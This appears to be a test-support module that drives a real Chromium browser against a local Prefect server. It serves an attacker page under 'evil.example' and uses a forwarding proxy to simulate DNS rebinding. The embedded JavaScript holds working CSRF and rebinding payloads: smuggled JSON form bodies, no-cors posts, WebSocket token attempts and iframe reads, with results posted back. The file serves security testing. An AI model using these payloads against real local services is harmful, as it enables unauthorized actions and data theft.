"""A page of somebody else in a real browser, which tries to get something out of, or into, a Prefect server.

Its own server plays both ways in. Under a loopback address or a name it is just another site. Under a name that is
rebound, it first serves the page; from then on everything else that is asked of it goes to the Prefect server, byte for
byte, as if the name had come to mean 127.0.0.1. The page tells what it could read in one request.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import tempfile
import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from tests.support.browser import FLAGS, MOST_SECONDS, chromium

NAME = "evil.example"
"""The browser finds it on loopback, whatever the resolver says."""

PAGE = """<!doctype html><body><script>
const {target, attacks, password, sockets} = %(plan)s;
const got = [];
const note = (how, what) => got.push([how, String(what).slice(0, 4000)]);
async function attempt(how, asking) {
  try { const answer = await asking(); note(how, answer.type + " " + answer.status + " " + await answer.text()); }
  catch (error) { note(how, "error " + error); }
}
function submit(path, body, type) {
  const [frame, form, field] = ["iframe", "form", "input"].map(name => document.createElement(name));
  frame.name = "f" + Math.random(); form.target = frame.name; form.method = "POST"; form.action = target + path;
  form.enctype = type; field.type = "hidden";
  field.name = JSON.stringify(body).replace(/}$/, ',"x":"'); field.value = '"}';  // with the = between, it is JSON
  form.append(field); document.body.append(frame, form); form.submit();
}
function frame(path) {
  return new Promise(done => {
    const it = document.createElement("iframe");
    it.onload = () => { try { note("frame " + path, it.contentDocument.documentElement.outerHTML); }
                        catch (error) { note("frame " + path, "error " + error); } done(); };
    setTimeout(done, 3000); it.src = target + path; document.body.append(it);
  });
}
function listen(path, origin) {
  return new Promise(done => {
    const socket = new WebSocket(target.replace("http", "ws") + path, ["prefect"]);
    socket.onopen = () => {
      note("socket " + path, "open");
      socket.send(JSON.stringify({type: "auth", token: password}));
      socket.send(JSON.stringify({type: "filter", filter: {}}));
    };
    socket.onmessage = message => note("socket " + path, "message " + message.data);
    socket.onclose = () => { note("socket " + path, "error closed"); done(); };
    setTimeout(done, 3000);
  });
}
(async () => {
  for (const [method, path, body] of attacks) {
    const sent = method === "GET" ? undefined : JSON.stringify(body || {});
    const json = {"Content-Type": "application/json"};
    const knowing = {...json, Authorization: "Basic " + btoa(password)};
    await attempt("json " + path, () => fetch(target + path, {method, headers: json, body: sent}));
    await attempt("knowing " + path, () => fetch(target + path, {method, headers: knowing, body: sent}));
    const simple = method === "GET" ? "GET" : "POST";
    await attempt("plain " + path, () => fetch(target + path, {method: simple, body: sent}));
    if (sent) {
      const untyped = {method: "POST", mode: "no-cors", body: new Blob([sent])};  // Prefect takes it for JSON
      await attempt("untyped " + path, () => fetch(target + path, untyped));
      for (const type of ["text/plain", "application/x-www-form-urlencoded"]) submit(path, body || {}, type);
    } else {
      await attempt("no-cors " + path, () => fetch(target + path, {mode: "no-cors", credentials: "include"}));
      new Image().src = target + path;
    }
  }
  await Promise.all(sockets.map(listen));
  await Promise.all(["/", "/v2/", "/docs", "/api/docs"].map(frame));
  await fetch("/told", {method: "POST", body: JSON.stringify(got)});
})();
</script>"""


def what_it_gets(
    port: int,
    attacks: Sequence[tuple[str, str, Any]],
    password: str,
    sockets: Sequence[str],
    *,
    name: str,
    rebound: bool,
) -> list[tuple[str, str]]:
    """What a page under that name reads of the Prefect server on that port: each try, and what came back."""
    with _served(port) as page:
        own = f"http://{name}:{page.server_port}"
        target = "" if rebound else f"http://127.0.0.1:{port}"
        plan = {"target": target or own, "attacks": attacks, "password": password, "sockets": sockets}
        page.page = (PAGE % {"plan": json.dumps(plan)}).encode()
        with tempfile.TemporaryDirectory() as profile:
            words = [str(chromium()), *FLAGS, f"--host-resolver-rules=MAP {NAME} 127.0.0.1, MAP * ~NOTFOUND, "]
            words[-1] += "EXCLUDE 127.0.0.1, EXCLUDE localhost"
            browser = subprocess.Popen(
                [*words, f"--user-data-dir={profile}", f"{own}/attack"],
                stdin=subprocess.DEVNULL,
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
                start_new_session=True,
            )
            try:
                page.ended.wait(MOST_SECONDS)
            finally:
                os.killpg(browser.pid, signal.SIGKILL)
                browser.wait()
    return page.got


class _Served(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, port: int) -> None:
        super().__init__(("127.0.0.1", 0), _Rebinding)
        self.behind = port
        self.page = b""
        self.got: list[tuple[str, str]] = []
        self.ended = threading.Event()


class _Rebinding(BaseHTTPRequestHandler):
    """The page and what it told; everything else is somebody else's by now."""

    server: _Served
    protocol_version = "HTTP/1.0"

    def handle_one_request(self) -> None:
        self.raw_requestline = self.rfile.readline(65537)
        if not self.raw_requestline or not self.parse_request():
            return
        if self.path == "/attack":
            self._answer(self.server.page)
        elif self.path == "/told":
            told = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            self.server.got = [(how, what) for how, what in told]
            self._answer(b"")
            self.server.ended.set()
        else:
            self._pass_on()
        self.close_connection = True

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def _pass_on(self) -> None:
        """As it came, with nothing changed but that it is the connection's last."""
        lines = [f"{name}: {value}" for name, value in self.headers.items()]
        if "upgrade" not in self.headers.get("Connection", "").lower():
            lines = [line for line in lines if not line.lower().startswith("connection:")] + ["Connection: close"]
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        with socket.create_connection(("127.0.0.1", self.server.behind), timeout=10) as behind:
            behind.sendall(self.raw_requestline + "\r\n".join([*lines, "", ""]).encode("latin-1") + body)
            while some := behind.recv(65536):
                self.wfile.write(some)

    def log_message(self, *_: object) -> None:
        """The test's output is for its result."""


@contextmanager
def _served(port: int) -> Iterator[_Served]:
    page = _Served(port)
    thread = threading.Thread(target=page.serve_forever)
    thread.start()
    try:
        yield page
    finally:
        page.shutdown()
        page.server_close()
        thread.join()
